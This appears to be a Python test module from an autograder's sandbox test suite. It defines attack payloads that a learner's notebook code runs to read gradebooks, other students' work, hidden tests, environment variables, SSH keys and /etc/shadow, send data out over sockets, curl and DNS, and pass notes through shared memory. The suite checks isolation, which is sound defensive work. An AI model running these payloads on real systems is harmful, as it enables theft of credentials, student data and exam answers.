"""Code that looks for what is not its author's, and code that tells whoever listens what hidden tests say."""

from __future__ import annotations

from collections.abc import Mapping

from tests.attacks.attack import FULL, Attack

LOOK = """
import glob, os
def show(path):
    others = [f"/proc/{pid}/root" for pid in ("self", 1, os.getppid())]
    for start in ("", "/proc/self/cwd/../../../..", *others):
        try:
            with open(start + path, "rb") as file:
                print(start, file.read().decode("latin-1"))
        except OSError as error:
            print(start, type(error).__name__)
"""
READ_GRADEBOOK = """
show("{course}/gradebook.db")
import sqlite3
try:
    gradebook = sqlite3.connect("file:{course}/gradebook.db?mode=ro", uri=True)
    print(gradebook.execute("select * from comment").fetchall())
except sqlite3.Error as error:
    print(error)
"""
READ_SUBMISSIONS = """
for student in ("alice", "zoe"):
    for step in ("submitted", "autograded", "feedback"):
        show(f"{course}/{step}/{student}/ps1/work.ipynb")
for folder, folders, names in os.walk("/"):
    folders[:] = [name for name in folders if name not in ("proc", "usr", "sys", "site-packages")]
    for name in names:
        if name.endswith((".ipynb", ".db", ".sqlite")):
            show(os.path.join(folder, name))
"""
READ_SOURCE = """
for path in ("source/ps1/work.ipynb", "release/ps1/work.ipynb", "nbgrader_config.py"):
    show("{course}/" + path)
for path in glob.glob("../../**/source/*/*"):
    show(path)
"""
READ_ENVIRONMENT = """
print(dict(os.environ))
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for name in ("environ", "cmdline"):
            show(f"/proc/{pid}/{name}")
show(f"/proc/{os.getppid()}/environ")
"""
READ_HOME = """
for home in ("{home}", os.path.expanduser("~"), "/root", os.path.expanduser("~root")):
    for name in (".ssh/id_ed25519", ".netrc", ".bashrc", ".jupyter/jupyter_server_config.json"):
        show(os.path.join(home, name))
show("/etc/shadow")
"""
CALL_OUT = """
import socket
def attempt(what, call):
    try:
        print(what, call())
    except OSError as error:
        print(what, type(error).__name__)
def tcp(host):
    with socket.create_connection((host, {tcp}), timeout=1) as client:
        client.sendall(b"stolen")
        return client.recv(64)
def udp(host):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        return client.sendto(b"stolen", (host, {udp}))
def unix(address):
    with socket.socket(socket.AF_UNIX) as client:
        client.settimeout(1)
        client.connect(address)
        client.sendall(b"stolen")
for host in ("127.0.0.1", "localhost", "::1", "{host}"):
    attempt(host, lambda: tcp(host))
    attempt(host, lambda: udp(host))
attempt("unix", lambda: unix("{unix}"))
attempt("abstract", lambda: unix("\\0{abstract}"))
attempt("name", lambda: socket.getaddrinfo("stolen.example.org", 80))
import subprocess
print(subprocess.run(["curl", "-sm1", "http://127.0.0.1:{tcp}/stolen"], capture_output=True).returncode)
"""

# What a learner's functions can do when a hidden test calls them: tell it to everybody who might listen.
SPY = """
import base64, inspect, json, os, struct, sys
def tell(*found):
    text = repr(found)
    for told in (text, text[::-1], text.encode().hex(), base64.b64encode(text.encode()).decode()):
        print(told)
        os.write(1, told.encode())
        os.system(f"echo '{told[:2000]}'")
        for place in ("/tmp/told", "/dev/shm/told", "/home/learner/told", "told.txt"):
            with open(place, "a") as file:
                file.write(told)
        for descriptor in globals().get("ways_out", ()):
            content = {"name": "stdout", "text": told}
            message = json.dumps({"op": "output", "kind": "stream", "content": content})
            try:
                os.write(descriptor, struct.pack("!II", len(message), 0) + message.encode())
            except OSError:
                pass
    return text
def frames():
    return [frame.frame.f_globals.get("In") or frame.frame.f_locals for frame in inspect.stack()]
"""
# Copies of the sockets that the process has from the start: a way to the grader that its own copies keep.
KEEP_WAYS_OUT = """
import os
ways_out = []
for number in os.listdir("/proc/self/fd"):
    try:
        if os.readlink(f"/proc/self/fd/{number}").startswith("socket:"):
            ways_out.append(os.dup(int(number)))
    except OSError:
        pass
"""
SPIES = {
    "prints": "def shout(words):\n    tell(words)\n    return words.upper() + '!'",
    "raises": (
        "def shout(words):\n"
        "    if words != 'quiet': raise ValueError(tell(words, frames()))\n"
        "    return 'QUIET!'"
    ),
    "exits": (
        "def shout(words):\n"
        "    if words != 'quiet': raise SystemExit(tell(words, frames()))\n"
        "    return 'QUIET!'"
    ),
    "returns": (
        "class Told(str):\n"
        "    def __eq__(self, other):\n        tell(self, other, frames()); return str(self) == other\n"
        "    __hash__ = str.__hash__\n"
        "def shout(words):\n    return Told(words.upper() + '!')"
    ),
}
PRINT_WHAT_WAS_TOLD = """
import glob
for path in ("/tmp/told", "/dev/shm/told", "/home/learner/told", "told.txt"):
    if os.path.exists(path):
        print(open(path).read())
print(In, Out, get_ipython().history_manager.input_hist_raw, sys.exc_info(), getattr(sys, "last_value", None))
"""
# A thread and a process that wait for hidden tests to come by, and tell them whoever still listens.
LURK = """
import os, sys, threading, time, gc
def look():
    while True:
        for found in list(get_ipython().user_ns.get("In", [])):
            if "HIDDEN" in found:
                print(found)
                os.write(1, found.encode())
        time.sleep(0.01)
threading.Thread(target=look, daemon=True).start()
if os.fork() == 0:
    look()
"""
SEARCH_MEMORY = """
first, second = "hidden-7f3a", "-word"
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as memory:
    for line in maps:
        span, permissions, *_ = line.split()
        if not permissions.startswith("rw"):
            continue
        start, end = (int(part, 16) for part in span.split("-"))
        memory.seek(start)
        content = memory.read(end - start)
        place = content.find(first.encode())
        while place >= 0:
            print(content[place - 20 : place + 40])
            place = content.find(first.encode(), place + 1)
"""
# One learner's code that meets a hidden test leaves a note where another learner's code may find it.
LEAVE_NOTES = """
import ctypes, fcntl, os, socket
libc = ctypes.CDLL(None, use_errno=True)
def leave(text):
    for place in ("/tmp/note", "/dev/shm/note", "/home/learner/note", "/var/tmp/note", "/run/note"):
        try:
            open(place, "w").write(text)
        except OSError:
            pass
    for number in range(2):
        try:
            os.write(number, text.encode())
        except OSError:
            pass
    segment = libc.shmget(0x5105, 4096, 0o1666)
    libc.shmat.restype = ctypes.c_void_p
    address = libc.shmat(segment, None, 0)
    if segment >= 0 and address not in (None, ctypes.c_void_p(-1).value):
        ctypes.memmove(address, text.encode(), len(text))
    server = socket.socket(socket.AF_UNIX)
    server.bind("\\0note")
    server.listen()
    return server
kept = []
def shout(words):
    if words != "quiet" and not kept:
        try:
            kept.append(leave(words))
        except OSError:
            pass
    return words.upper() + "!"
"""
FIND_NOTES = """
import ctypes, os, socket
for place in ("/tmp/note", "/dev/shm/note", "/home/learner/note", "/var/tmp/note", "/run/note"):
    if os.path.exists(place):
        print(open(place).read())
for number in range(64):
    try:
        print(os.pread(number, 1 << 16, 0))
    except OSError:
        pass
libc = ctypes.CDLL(None, use_errno=True)
segment = libc.shmget(0x5105, 4096, 0)
libc.shmat.restype = ctypes.c_void_p
if segment >= 0:
    print(ctypes.string_at(libc.shmat(segment, None, 0), 64))
try:
    socket.socket(socket.AF_UNIX).connect("\\0note")
    print("connected")
except OSError as error:
    print(type(error).__name__)
"""

THEFTS = (
    Attack(name="network", last=CALL_OUT),
    Attack(name="environment", last=LOOK + READ_ENVIRONMENT),
    Attack(name="gradebook", last=LOOK + READ_GRADEBOOK),
    Attack(name="home", last=LOOK + READ_HOME),
    Attack(name="source", last=LOOK + READ_SOURCE),
    Attack(name="submissions", last=LOOK + READ_SUBMISSIONS),
)
SHOUT_FAILS: Mapping[str, float | None] = {**FULL, "shout-tests": 0.0, "session-tests": 0.0}
EXFILTRATIONS = (
    *(
        Attack(
            name=f"spy-{way}",
            first=KEEP_WAYS_OUT,
            answers={"shout": SPY + code},
            last=PRINT_WHAT_WAS_TOLD,
            scores=SHOUT_FAILS if way in ("raises", "exits") else FULL,
        )
        for way, code in SPIES.items()
    ),
    Attack(name="lurker", first=LURK, last="import time; time.sleep(0.3); print(In)"),
    Attack(name="memory", last=SEARCH_MEMORY),
    Attack(name="note-left", answers={"shout": LEAVE_NOTES}),
    Attack(name="note-sought", last=FIND_NOTES),
)
